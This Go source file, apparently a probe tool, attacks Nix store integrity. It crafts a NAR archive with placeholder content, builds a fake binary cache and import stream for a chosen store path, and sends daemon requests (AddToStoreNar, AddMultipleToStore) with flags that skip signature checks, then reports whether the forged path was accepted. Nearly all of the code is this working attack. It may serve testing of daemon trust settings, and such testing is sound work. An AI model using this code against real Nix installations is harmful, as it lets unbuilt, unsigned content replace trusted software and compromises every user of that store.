package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"time"

	"context"

	"gitlab.com/skerry/skerry/internal/nixstore/nixconn"
	"gitlab.com/skerry/skerry/internal/nixstore/nixwire"
)

// evil is what would be in the store.
const evil = "this is not what was built\n"

// archive is a file of that, as Nix archives it.
func archive() []byte {
	var b bytes.Buffer
	w := nixwire.NewWriter(&b, 4096)
	for _, s := range []string{"nix-archive-1", "(", "type", "regular", "contents", evil, ")"} {
		w.String(s)
	}
	_ = w.Flush() // to memory
	return b.Bytes()
}

func hash(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// cache is a binary cache that a path can be had from, if nobody asks who says so.
func cache(dir, path string) error {
	p, err := nixwire.ParseStorePath(path)
	if err != nil {
		return err
	}
	a := archive()
	files := map[string]string{
		"nix-cache-info":           "StoreDir: /nix/store\nWantMassQuery: 1\nPriority: 1\n",
		"nar/evil.nar":             string(a),
		p.Base()[:32] + ".narinfo": fmt.Sprintf("StorePath: %s\nURL: nar/evil.nar\nCompression: none\nNarHash: sha256:%s\nNarSize: %d\nReferences: \n", path, hash(a), len(a)),
	}
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o644)); err != nil { //nolint:gosec // for Nix to read
			return err
		}
	}
	return nil
}

// export writes what nix-store --import reads. Source: nix src/libstore/export-import.cc.
func export(out io.Writer, path string) error {
	w := nixwire.NewWriter(out, 4096)
	w.Uint64(1)
	w.Raw(archive())
	w.Uint64(0x4558494e)
	w.String(path)
	w.Uint64(0)
	w.String("")
	w.Uint64(0)
	w.Uint64(0)
	return w.Flush()
}

// force says that the path is the daemon's own work, that its signatures need no look, and both at once for many.
func force(path, socket string) error {
	a := archive()
	token := func(n uint64) nixwire.Token { return nixwire.Token{Int: n} }
	text := func(s string) nixwire.Token { return nixwire.Token{Kind: nixwire.Str, Str: s} }
	list := nixwire.Token{Kind: nixwire.List}
	info := []nixwire.Token{
		{Kind: nixwire.Path, Str: path}, {Kind: nixwire.OptPath}, text(hash(a)), list, token(1), token(uint64(len(a))), token(1), list, text(""),
	}
	var many bytes.Buffer
	w := nixwire.NewWriter(&many, 4096)
	w.Uint64(1)
	nixwire.Write(w, info)
	w.Raw(a)
	if err := w.Flush(); err != nil {
		return err
	}
	ways := []struct {
		op      nixwire.Op
		request []nixwire.Token
		body    []byte
	}{
		{nixwire.AddToStoreNar, append(append([]nixwire.Token{}, info...), token(0), token(1)), a},
		{nixwire.AddMultipleToStore, []nixwire.Token{token(0), token(1)}, many.Bytes()},
	}
	for _, way := range ways {
		say(way.op, "says:", try(socket, way.op, way.request, way.body))
	}
	valid, err := ask(socket, path)
	if err != nil {
		return err
	}
	say("forced:", valid)
	return nil
}

func dial(socket string) (*nixconn.Conn, nixwire.Version, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	return nixconn.Dialer{Socket: socket, Wait: 10 * time.Second}.Open(ctx)
}

// try asks for one thing and returns what the answer is.
func try(socket string, op nixwire.Op, request []nixwire.Token, body []byte) error {
	c, _, err := dial(socket)
	if err != nil {
		return err
	}
	defer c.Close() //nolint:errcheck // nothing to lose
	c.W.Uint64(uint64(op))
	nixwire.Write(c.W, request)
	f := nixwire.NewFrameWriter(c.W)
	if _, err := f.Write(body); err != nil {
		return err
	}
	f.End()
	if err := c.W.Flush(); err != nil {
		return err
	}
	return c.Last(nil)
}

// ask asks whether a path is valid.
func ask(socket, path string) (bool, error) {
	c, v, err := dial(socket)
	if err != nil {
		return false, err
	}
	defer c.Close() //nolint:errcheck // nothing to lose
	valid, err := c.Root(v, []nixwire.StorePath{nixwire.StorePath(path)}, nil)
	return valid[nixwire.StorePath(path)], err
}
